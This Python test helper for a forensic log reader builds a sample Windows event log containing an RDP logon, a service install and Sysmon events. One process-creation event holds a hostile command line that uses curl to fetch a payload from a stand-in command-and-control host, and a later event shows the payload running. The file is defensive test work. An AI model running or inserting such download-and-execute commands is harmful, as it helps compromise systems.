"""What the tests of this folder share: evidence in memory, its records as dictionaries, and sample events."""

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from sekimori.app.golden import MemorySource
from sekimori.model.place import Statement, Unread
from sekimori.readers.protocol import Reader, ReadingContext, Records
from tests.readers.windows.evtx_file import Element, chunk, event, evtx

__all__ = ["SAMPLES", "Result", "read", "sample_evtx"]

SAMPLES = Path(__file__).resolve().parents[2] / "data/readers/windows"
AUDITING = "Microsoft-Windows-Security-Auditing"
SYSMON = "Microsoft-Windows-Sysmon"


@dataclass
class Result:
    """Records, what could not be read, and statements; columns that are null are left out."""

    records: list[dict[str, Any]] = field(default_factory=list)
    unread: list[Unread] = field(default_factory=list)
    statements: dict[str, str] = field(default_factory=dict)


def read(reader: Reader, data: bytes, context: ReadingContext | None = None) -> Result:
    """Everything the reader makes of it."""
    result = Result()
    for item in reader.read(MemorySource("evidence", data), context or ReadingContext()):
        match item:
            case Statement(about=about, value=value):
                result.statements[about] = value
            case Records(kind=kind, batch=batch):
                batch.validate(full=True)
                assert batch.schema.equals(kind.schema)
                for row in batch.to_pylist():
                    result.records.append({name: value for name, value in row.items() if value is not None})
            case Unread():
                result.unread.append(item)
            case _:
                raise AssertionError(item)
    return result


def sample_evtx() -> bytes:
    """The sample event log: two chunks."""
    return evtx(chunk(_first_events()), chunk(_later_events(), first=4))


def _first_events() -> list[Element]:
    logon = {
        "SubjectUserName": "-",
        "SubjectLogonId": "0x0",
        "TargetUserName": "tanaka",
        "TargetDomainName": "EXAMPLE",
        "TargetLogonId": "0x5A3F1",
        "LogonType": "10",
        "WorkstationName": "PC02",
        "IpAddress": "192.0.2.15",
        "IpPort": "50111",
    }
    started = {
        "SubjectUserName": "tanaka",
        "SubjectLogonId": "0x5a3f1",
        "NewProcessName": r"C:\Windows\System32\cmd.exe",
        "ParentProcessName": r"C:\Windows\explorer.exe",
        "CommandLine": "cmd.exe /c curl -o a.exe http://c2.evil.example/a.bin & ping 198.51.100.7",
        "TargetUserName": "-",
        "TargetLogonId": "0x0",
    }
    service = {
        "ServiceName": "Updater",
        "ImagePath": r'"C:\Program Files\Up Dater\u.exe" -k run',
        "AccountName": "LocalSystem",
    }
    return [
        event(AUDITING, 4624, 1001, logon),
        event(AUDITING, 4688, 1002, started),
        event("Service Control Manager", 7045, 1003, service, channel="System"),
    ]


def _later_events() -> list[Element]:
    created = {
        "Image": r"C:\Users\tanaka\a.exe",
        "User": r"EXAMPLE\tanaka",
        "LogonId": "0x5a3f1",
        "CommandLine": "a.exe",
        "Hashes": f"MD5={'0' * 32},SHA256={'AB' * 32}",
        "ParentImage": r"C:\Windows\System32\cmd.exe",
    }
    authenticated = {"Param1": "tanaka", "Param2": "EXAMPLE", "Param3": "192.0.2.16"}
    manager = "Microsoft-Windows-TerminalServices-RemoteConnectionManager"
    return [
        event(SYSMON, 1, 1004, created, channel="Microsoft-Windows-Sysmon/Operational"),
        event(manager, 1149, 1005, authenticated, channel=f"{manager}/Operational", user="EventXML"),
    ]
